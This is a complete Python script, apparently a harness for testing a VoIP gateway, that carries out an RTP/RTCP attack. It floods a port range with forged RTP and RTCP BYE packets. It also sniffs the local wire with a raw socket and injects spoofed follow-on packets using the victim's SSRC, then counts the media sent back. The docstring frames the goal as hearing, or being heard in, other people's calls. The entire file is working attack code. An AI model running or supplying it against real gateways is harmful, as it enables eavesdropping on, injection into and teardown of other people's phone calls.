#!/usr/bin/python3
"""Somebody on the caller's network who wants to hear, or be heard in, calls that are not his.

usage: attacker.py --from IP:PORT --at GATEWAY-IP --ports MIN-MAX --seconds S [--report FILE]

Sprays every port with RTP that looks valid, and with RTCP that says BYE; and for each packet that the
victim sends to the gateway (he sees the wire) he sends the one that comes next, with its SSRC, from his own
address. What he gets back is counted.
"""
import argparse
import json
import random
import socket
import struct
import time

PAYLOAD = bytes([0x66]) * 160
BATCH = 20
PAUSE_S = 0.004


def rtp(ssrc, sequence):
    return struct.pack("!BBHII", 0x80, 0, sequence & 0xFFFF, sequence * 160 & 0xFFFFFFFF, ssrc) + PAYLOAD


def bye(ssrc):
    return struct.pack("!BBHI", 0x80, 201, 1, ssrc) + struct.pack("!BBHI", 0x81, 203, 1, ssrc)


def follow(wire, own, gateway, send):
    """The next packet of each stream that goes to the gateway. Returns how many were sent."""
    n = 0
    while True:
        try:
            frame = wire.recv(2048)
        except BlockingIOError:
            return n
        if frame[12:14] != b"\x08\x00" or frame[23] != 17 or frame[30:34] != gateway or frame[26:30] == own:
            continue
        port = struct.unpack("!H", frame[36:38])[0]
        data = frame[42:]
        if port % 2 or len(data) < 12 or data[0] != 0x80:
            continue
        sequence, _, ssrc = struct.unpack("!HII", data[2:12])
        send(rtp(ssrc, sequence + 1), port)
        send(bye(ssrc), port + 1)
        n += 1


def main():
    parser = argparse.ArgumentParser(usage=__doc__)
    for name in ("--from", "--at", "--ports", "--seconds", "--report"):
        parser.add_argument(name)
    arguments = vars(parser.parse_args())
    host, own_port = arguments["from"].split(":")
    low, high = map(int, arguments["ports"].split("-"))
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((host, int(own_port)))
    sock.setblocking(False)
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    wire.setblocking(False)
    dice = random.Random(1)
    sent = followed = heard = sequence = 0
    port = low
    end = time.monotonic() + float(arguments["seconds"])

    def send(data, to):
        nonlocal sent
        sent += 1
        try:
            sock.sendto(data, (arguments["at"], to))
        except (BlockingIOError, ConnectionRefusedError):
            pass

    while time.monotonic() < end:
        for _ in range(BATCH):
            ssrc = dice.getrandbits(32)
            send(bye(ssrc) if port % 2 else rtp(ssrc, sequence), port)
            port = low if port == high else port + 1
        sequence += 1
        followed += follow(wire, socket.inet_aton(host), socket.inet_aton(arguments["at"]), send)
        try:
            while True:
                heard += bool(sock.recv(2048))
        except (BlockingIOError, ConnectionRefusedError):
            pass
        time.sleep(PAUSE_S)
    result = json.dumps({"sent": sent, "followed": followed, "heard": heard})
    if arguments["report"]:
        with open(arguments["report"], "w", encoding="utf-8") as file:
            file.write(result)
    print(result)


if __name__ == "__main__":
    main()
